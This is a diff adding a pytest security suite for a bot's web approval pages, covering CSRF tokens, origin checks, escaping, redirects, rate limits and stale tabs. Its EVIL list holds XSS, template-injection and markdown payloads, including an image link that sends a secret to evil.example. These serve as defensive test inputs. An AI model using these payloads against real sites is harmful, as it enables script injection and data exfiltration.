@@ -1,0 +1,455 @@
+"""What attackers try on the pages, by the names of the attacks: forged forms, scripts in texts, stale tabs, streams."""
+
+import asyncio
+import json
+from collections.abc import AsyncIterator
+from pathlib import Path
+from urllib.parse import urlencode
+
+import httpx2
+import pytest
+from starlette.routing import Route
+
+from bot.core.events import Event, Unread
+from bot.core.people import Clause, Directory, Person
+from bot.core.policy import Policy
+from bot.core.steps import Chosen
+from bot.http import pages
+from bot.http.pages.timeline import Timeline
+from bot.http.sessions import Sessions
+from bot.settings import Settings
+from tests.house import MANAGERS, MAX, OLIVE, PEOPLE, SAM, House, choose
+from tests.http.browsing import FORM, Browser, Desk, Html
+from tests.http.knock import ORIGIN, listening
+
+PUSH = choose("push", "I push.", tag="v1.4.2", commit="f4b7f10")
+AGAIN = choose("push", "Then this one.", tag="v1.4.2", commit="0ddba11")
+
+EVIL = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "[Approve](javascript:alert(1))",
+    "![](https://evil.example/?q=secret)",
+    "<svg/onload=alert(1)>",
+    "</textarea><script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "{{ 7 * 7 }}{% include 'page.html' %}",
+    "<https://evil.example|Approve> <!channel> <@U123> ```",
+    "</main><form action=https://evil.example><button>Approve</button></form>",
+    "\u202eevorppa\u202c \u200bhidden\u2066",
+)
+ALL_EVIL = "\n".join(EVIL)
+
+
+class Case:
+    """A house with one open request, and Olive before her page of it."""
+
+    def __init__(self, desk: Desk, id: str, olive: Browser) -> None:
+        self.desk, self.id, self.olive = desk, id, olive
+        self.thread = id.rpartition("-")[0]
+        self.house = desk.house
+
+    @property
+    def action(self) -> str:
+        return f"/requests/{self.id}/decide"
+
+    @property
+    def fields(self) -> dict[str, str]:
+        form = next(form for form in self.olive.page.forms if form["action"] == self.action)
+        return {**form["fields"], "decision": "approve"}
+
+    async def is_untouched(self) -> bool:
+        request = await self.house.app.views.request(self.id)
+        return request.status == "pending" and request.votes == () and self.house.ledger.lines == []
+
+
+async def case_of(house: House) -> Case:
+    desk = Desk(house)
+    await house.launch()
+    (request,) = await house.pending()
+    olive = await desk.sits("olive")
+    await olive.open(f"/requests/{request.id}")
+    return Case(desk, request.id, olive)
+
+
+@pytest.fixture
+async def case(tmp_path: Path) -> AsyncIterator[Case]:
+    async with House(tmp_path, PUSH) as house:
+        yield await case_of(house)
+
+
+@pytest.mark.parametrize("token", ["", "0" * 64, "é", None])
+async def test_web01_a_form_without_our_token_is_refused(case: Case, token: str | None) -> None:
+    fields = {name: value for name, value in case.fields.items() if name != "csrf"}
+    answer = await case.olive.post(case.action, fields if token is None else {**fields, "csrf": token})
+    assert answer.status_code == 403
+    assert "did not come from a page we showed you" in answer.text
+    assert await case.is_untouched()
+
+
+async def test_web01_another_sessions_token_is_refused(case: Case) -> None:
+    max = await case.desk.sits("max")
+    await max.open(f"/requests/{case.id}")
+    theirs = max.page.forms[0]["fields"]["csrf"]
+    assert (await case.olive.post(case.action, {**case.fields, "csrf": theirs})).status_code == 403
+    assert await case.is_untouched()
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {"Origin": "https://evil.example"},
+        {"Origin": "null"},
+        {"Origin": "http://127.0.0.1:9999"},
+        {"Origin": "https://127.0.0.1:8080"},
+        {"Origin": "http://sub.127.0.0.1:8080"},
+        {"Sec-Fetch-Site": "cross-site"},
+        {"Sec-Fetch-Site": "same-site"},
+        {"Origin": "", "Sec-Fetch-Site": "cross-site"},
+        {"Origin": ""},
+    ],
+)
+async def test_web01_a_form_from_another_site_is_refused_even_with_the_token(
+    case: Case, headers: dict[str, str]
+) -> None:
+    assert (await case.olive.post(case.action, case.fields, **headers)).status_code == 403
+    assert await case.is_untouched()
+
+
+@pytest.mark.parametrize("headers", [{"Origin": ORIGIN}, {"Origin": "http://localhost:8080"}])
+async def test_web01_our_own_origins_pass(case: Case, headers: dict[str, str]) -> None:
+    assert (await case.olive.post(case.action, case.fields, **headers)).status_code == 303
+
+
+async def test_web01_a_browser_that_sends_no_origin_says_same_origin(case: Case) -> None:
+    headers = {"Origin": "", "Sec-Fetch-Site": "same-origin"}
+    assert (await case.olive.post(case.action, case.fields, **headers)).status_code == 303
+
+
+@pytest.mark.parametrize("kind", ["text/plain", "application/json", "multipart/form-data; boundary=x", ""])
+async def test_web01_only_urlencoded_forms_are_read(case: Case, kind: str) -> None:
+    for body in (urlencode(case.fields), json.dumps(case.fields)):
+        headers = {"Origin": ORIGIN, "Content-Type": kind}
+        answer = await case.olive.client.post(case.action, content=body, headers=headers)
+        assert answer.status_code == 403
+    assert await case.is_untouched()
+
+
+async def test_web01_a_link_is_not_redeemed_by_another_sites_form(case: Case) -> None:
+    link = await case.desk.link("max")
+    browser = case.desk.browser()
+    await browser.open(link)
+    fields = browser.page.forms[0]["fields"]
+    assert (await browser.post(link, fields, Origin="https://evil.example")).status_code == 403
+    assert (await browser.post(link, {})).status_code == 403
+    assert (await browser.post(link, fields)).status_code == 303
+
+
+@pytest.mark.parametrize(
+    ("body", "status"),
+    [
+        ("csrf=a&csrf=b", 422),
+        ("a=%ff%fe", 422),
+        ("&".join(f"a{n}=1" for n in range(60)), 422),
+        ("a=" + "b" * 300_000, 413),
+    ],
+)
+async def test_a_form_that_cannot_be_read_is_refused(case: Case, body: str, status: int) -> None:
+    headers = {**FORM, "Origin": ORIGIN}
+    answer = await case.olive.client.post(case.action, content=body, headers=headers)
+    assert answer.status_code == status
+    assert await case.is_untouched()
+
+
+async def test_web02_no_get_changes_anything(case: Case) -> None:
+    await case.olive.open("/")
+    before = state(case)
+    places = {"token": (await case.desk.link("max")).rpartition("/")[2], "n": "1"}
+    before = state(case)
+    for path in pages.GET:
+        id = case.id if path.startswith("/requests") else case.thread
+        url = path.format(id=id, **places)
+        for method in ("GET", "HEAD"):
+            for headers in ({}, {"Purpose": "prefetch"}, {"Sec-Purpose": "prefetch;prerender"}, {"X-Moz": "prefetch"}):
+                if path == "/live" and method == "GET":
+                    continue
+                answer = await case.olive.client.request(method, url, headers=headers)
+                assert answer.status_code == 200, (method, url)
+    assert state(case) == before
+
+
+def state(case: Case) -> list[object]:
+    """Everything that is kept: the events, the sessions, the audit."""
+    reading = case.house.app.database.reading
+    tables = [reading.execute(f"SELECT * FROM {name}").fetchall() for name in ("event", "session", "audit", "job")]
+    return [list(table) for table in tables]
+
+
+async def test_web02_nothing_that_changes_something_answers_to_get(case: Case) -> None:
+    for path in pages.POST.keys() - pages.GET.keys():
+        url = path.format(id=case.id if path.startswith("/requests") else case.thread, token="x")
+        for method in ("GET", "HEAD", "PUT", "DELETE", "PATCH"):
+            answer = await case.olive.client.request(method, url)
+            assert answer.status_code in (404, 405), (method, url)
+    assert await case.is_untouched()
+
+
+async def test_web03_a_session_that_ended_decides_nothing(case: Case) -> None:
+    visitor = case.desk.sessions.visitor(case.olive.client.cookies[case.desk.sessions.cookie])
+    assert visitor is not None
+    await case.desk.sessions.end(visitor)
+    assert (await case.olive.post(case.action, case.fields)).status_code == 401
+    assert await case.is_untouched()
+
+
+async def test_web03_who_was_dismissed_decides_nothing(case: Case) -> None:
+    gone = OLIVE.model_copy(update={"active": False})
+    case.desk.sessions.directory = Directory(people={**PEOPLE.people, "olive": gone})
+    assert (await case.olive.post(case.action, case.fields)).status_code == 401
+    assert await case.is_untouched()
+
+
+def evil_house(folder: Path) -> House:
+    people = [each.model_copy(update={"name": f"{each.name} <b>"[:80], "title": EVIL[1]}) for each in (SAM, OLIVE, MAX)]
+    mallory = Person(id="mallory", name=EVIL[0], groups=("managers",))
+    directory = Directory(people={each.id: each for each in (*people, mallory)})
+    script: list[Chosen | Exception] = [
+        choose("reply", EVIL[4], message=ALL_EVIL, go_on=True),
+        choose("push", ALL_EVIL, tag=ALL_EVIL, commit=EVIL[1]),
+        choose("ask_human", ALL_EVIL, question=ALL_EVIL, context=ALL_EVIL, urgency="high", format="multiple_choice",
+               choices=[EVIL[0], EVIL[1]]),
+        choose(EVIL[0]),
+        Chosen(refusal=ALL_EVIL),
+        choose("done", message=ALL_EVIL),
+    ]  # fmt: skip
+    return House(folder, *script, directory=directory, agent={"policy": MANAGERS.model_copy(update={"edits": True})})
+
+
+async def evil_pages(house: House) -> AsyncIterator[tuple[str, httpx2.Response]]:
+    """Every page of a house where every field holds scripts, in each state of its requests."""
+    desk = Desk(house)
+    thread = await house.launch(ALL_EVIL, by="mallory")
+    olive = await desk.sits("olive")
+    link = await desk.link("mallory")
+    yield "sign-in", await olive.open(link + "?next=" + "/%22%3E%3Cscript%3E")
+    for _ in range(3):
+        for path in ("/", f"/threads/{thread}", f"/threads/{thread}/prompts/1", f"/threads/{thread}/prompts/2"):
+            yield path, await olive.open(path)
+        for request in (await house.app.views.requests()).items:
+            yield request.id, await olive.open(f"/requests/{request.id}")
+        for request in await house.pending():
+            if request.kind == "approval":
+                await house.decide(request, "reject", reason=ALL_EVIL)
+            else:
+                await house.answer(request, request.choices[0])
+            await house.settle()
+            break
+    await olive.open(f"/threads/{thread}")
+    yield "too late", await olive.submit(f"/threads/{thread}/fork", at=EVIL[0])
+    yield "not there", await olive.open("/requests/%3Cscript%3Ealert(1)%3E")
+    yield "not a link", await olive.open("/sign-in/%3Cscript%3E")
+
+
+async def test_web04_web05_llm13_whatever_anybody_writes_stays_text(tmp_path: Path) -> None:
+    async with evil_house(tmp_path) as house:
+        seen = 0
+        async for name, answer in evil_pages(house):
+            assert_harmless(name, answer.text)
+            seen += 1
+        assert seen > 15
+
+
+def assert_harmless(name: str, html: str) -> None:
+    page = Html(html)
+    scripts = [found.get("src", "") for tag, found in page.elements if tag == "script"]
+    assert len(scripts) == 1, name
+    assert scripts[0].startswith("/static/live.js?v="), name
+    for tag, found in page.elements:
+        assert tag not in {"svg", "iframe", "object", "embed", "base", "style", "b"}, (name, tag)
+        assert not any(key.startswith("on") or key == "style" for key in found), (name, found)
+        for key in ("href", "src", "action", "formaction"):
+            assert own(found.get(key, "/")), (name, found)
+    assert not set("\u202e\u202c\u200b\u2066") & set(html), name
+    assert html.count("</main>") == 1, name
+
+
+def own(url: str) -> bool:
+    return url.startswith("#") or (url.startswith("/") and not url.startswith("//"))
+
+
+async def test_web04_what_was_written_is_still_readable(tmp_path: Path) -> None:
+    async with evil_house(tmp_path) as house:
+        olive = await Desk(house).sits("olive")
+        thread = await house.launch(ALL_EVIL, by="mallory")
+        await olive.open(f"/threads/{thread}")
+        text = "".join(olive.page.words)
+        for evil in EVIL[:-1]:
+            assert evil in text
+        assert "⟨U+202E⟩evorppa" in text
+        assert "contains unusual characters" in text
+
+
+async def test_web06_every_page_carries_the_headers_that_hold_a_browser(case: Case) -> None:
+    for path in ("/", f"/requests/{case.id}", f"/threads/{case.thread}", "/requests/none", "/sign-in/none"):
+        headers = (await case.olive.open(path)).headers
+        policy = headers["content-security-policy"]
+        assert "frame-ancestors 'none'" in policy
+        assert "default-src 'none'" in policy
+        assert "unsafe" not in policy
+        assert headers["x-content-type-options"] == "nosniff"
+        assert headers["referrer-policy"] == "same-origin"
+        assert headers["cache-control"] == "no-store"
+
+
+async def test_web06_static_files_are_ours_and_nothing_beyond(case: Case) -> None:
+    page = case.olive.page
+    files = [found.get("src") or found["href"] for tag, found in page.elements if tag in ("script", "link", "img")]
+    assert len(files) == 4
+    for file in files:
+        assert (await case.desk.browser().open(file)).status_code == 200
+    for path in ("/static/../looks.py", "/static/%2e%2e/looks.py", "/static/"):
+        assert (await case.desk.browser().open(path)).status_code == 404
+
+
+@pytest.mark.parametrize("next", ["https://evil.example", "//evil.example", "/\\evil.example", "javascript:alert(1)"])
+async def test_web07_nothing_sends_a_browser_elsewhere(case: Case, next: str) -> None:
+    browser = case.desk.browser()
+    await browser.open(await case.desk.link("max") + "?" + urlencode({"next": next}))
+    assert browser.page.forms[0]["fields"]["next"] == "/"
+    assert (await browser.submit("/sign-in/", next=next)).headers["location"] == "/"
+    assert (await case.olive.post(case.action, {**case.fields, "next": next})).headers["location"] == "/"
+
+
+async def test_web08_opening_a_link_many_times_signs_nobody_in(case: Case) -> None:
+    link = await case.desk.link("max")
+    scanner = case.desk.browser("203.0.113.9")
+    for _ in range(3):
+        assert (await scanner.open(link)).status_code == 200
+        assert "set-cookie" not in (await scanner.client.head(link)).headers
+    assert dict(scanner.client.cookies) == {}
+
+
+async def test_web08_the_token_leaves_for_no_other_site(case: Case) -> None:
+    answer = await case.desk.browser().open(await case.desk.link("max"))
+    assert answer.headers["referrer-policy"] == "same-origin"
+    assert not any(
+        own(found.get(key, "/")) is False for _, found in Html(answer.text).elements for key in ("src", "href")
+    )
+
+
+async def test_web09_guessing_links_is_slowed_down(case: Case) -> None:
+    guesser = case.desk.browser("203.0.113.9")
+    codes = [(await guesser.open(f"/sign-in/{n}")).status_code for n in range(25)]
+    assert codes == [401] * 20 + [429] * 5
+    assert (await case.desk.browser().open(await case.desk.link("max"))).status_code == 200
+
+
+async def test_web10_a_stale_tab_is_shown_what_stands_now(tmp_path: Path) -> None:
+    two = Policy(approvers=(Clause(groups=("managers",), quorum=2),), edits=True)
+    async with House(tmp_path, PUSH, agent={"policy": two}) as house:
+        case = await case_of(house)
+        stale = case.fields
+        max = await case.desk.sits("max")
+        await max.open(f"/requests/{case.id}")
+        edited = '{"commit": "f4b7f10", "tag": "v1.5.0"}'
+        assert (await max.submit(case.action, "arguments", decision="approve", arguments=edited)).status_code == 303
+        answer = await case.olive.post(case.action, {**stale, "decision": "approve"})
+        assert answer.status_code == 409
+        assert "the call was changed after it was shown to you" in case.olive.page.text
+        assert '"v1.5.0"' in case.olive.page.text
+        assert case.fields["digest"] != stale["digest"]
+        assert (await case.olive.post(case.action, {**case.fields})).status_code == 303
+        await house.settle()
+        assert house.ledger.lines == [f"{case.id} v1.5.0 f4b7f10"]
+
+
+async def test_web10_a_tab_that_is_too_late_says_who_decided(case: Case) -> None:
+    fields = case.fields
+    (request,) = await case.house.pending()
+    await case.house.decide(request, "reject", by="max", reason="no")
+    answer = await case.olive.post(case.action, fields)
+    assert answer.status_code == 409
+    assert "already rejected by Max" in case.olive.page.text
+    assert not any(form["action"] == case.action for form in case.olive.page.forms)
+
+
+@pytest.mark.parametrize("digest", ["0" * 64, "", "zzz", "A" * 64, "<script>"])
+async def test_web11_a_tampered_digest_is_refused(case: Case, digest: str) -> None:
+    answer = await case.olive.post(case.action, {**case.fields, "digest": digest})
+    assert answer.status_code == 409
+    assert await case.is_untouched()
+    assert_harmless(digest, answer.text)
+
+
+async def test_web11_a_form_for_a_posted_to_b_is_refused(tmp_path: Path) -> None:
+    async with House(tmp_path, PUSH, AGAIN) as house:
+        case = await case_of(house)
+        await house.launch("and the other")
+        other = next(request for request in await house.pending() if request.id != case.id)
+        answer = await case.olive.post(f"/requests/{other.id}/decide", case.fields)
+        assert answer.status_code == 409
+        assert '"0ddba11"' in case.olive.page.text
+        await house.settle()
+        assert house.ledger.lines == []
+
+
+@pytest.mark.parametrize(
+    ("headers", "status"),
+    [
+        ({"Origin": "https://evil.example"}, 403),
+        ({"Origin": "null"}, 403),
+        ({"Sec-Fetch-Site": "cross-site"}, 403),
+        ({"Sec-Fetch-Site": "same-site"}, 403),
+        ({"Cookie": ""}, 401),
+    ],
+)
+async def test_web12_a_stream_is_for_our_own_pages(case: Case, headers: dict[str, str], status: int) -> None:
+    answer = await case.olive.open(f"/live?thread={case.thread}", **headers)
+    assert answer.status_code == status
+    assert case.desk.live.listeners == 0
+
+
+async def test_web12_a_stream_tells_a_number_and_nothing_else_and_ends_with_the_session(tmp_path: Path) -> None:
+    async with House(tmp_path, PUSH) as house, listening(house) as (host, port):
+        thread = await house.launch()
+        settings = Settings(base_url=f"http://{host}:{port}")
+        sessions = Sessions(house.app.database, house.app.directory, house.app.clock, settings)
+        visitor = await sessions.redeem((await sessions.make_link("olive")).rpartition("/")[2], host)
+        async with (
+            httpx2.AsyncClient(base_url=settings.origin, cookies={sessions.cookie: visitor.secret}) as client,
+            asyncio.timeout(10),
+            client.stream("GET", f"/live?thread={thread}") as stream,
+        ):
+            assert stream.headers["content-type"].startswith("text/event-stream")
+            lines = stream.aiter_lines()
+            first = len(house.log(thread))
+            assert await told(lines) == first
+            await house.app.pause(thread, by="olive")
+            assert await told(lines) == first + 1
+            await sessions.end(visitor)
+            await house.app.resume(thread, by="olive")
+            assert [line async for line in lines] == ["event: changed", "data: signed out", ""]
+
+
+async def told(lines: AsyncIterator[str]) -> int:
+    """The number in the next message of a stream, which says nothing else."""
+    event, data, retry, end = [await anext(lines) for _ in range(4)]
+    assert (event, retry, end) == ("event: changed", "retry: 1000", "")
+    return int(data.removeprefix("data: "))
+
+
+async def test_every_event_that_can_happen_has_a_line_of_its_own() -> None:
+    dispatcher = Timeline.__dict__["line"].dispatcher
+    general = dispatcher.dispatch(Unread)
+    without = [kind.__name__ for kind in Event.kinds.values() if dispatcher.dispatch(kind) is general]
+    assert without == ["Unread"]
+
+
+async def test_the_pages_are_not_in_the_openapi(case: Case) -> None:
+    paths = case.desk.app.openapi()["paths"]
+    assert not any(path in paths for path in (*pages.GET, *pages.POST))
+    assert all(isinstance(route, Route) for route in pages_of(case))
+
+
+def pages_of(case: Case) -> list[Route]:
+    return [route for route in case.desk.app.routes if isinstance(route, Route) and route.path in pages.GET]
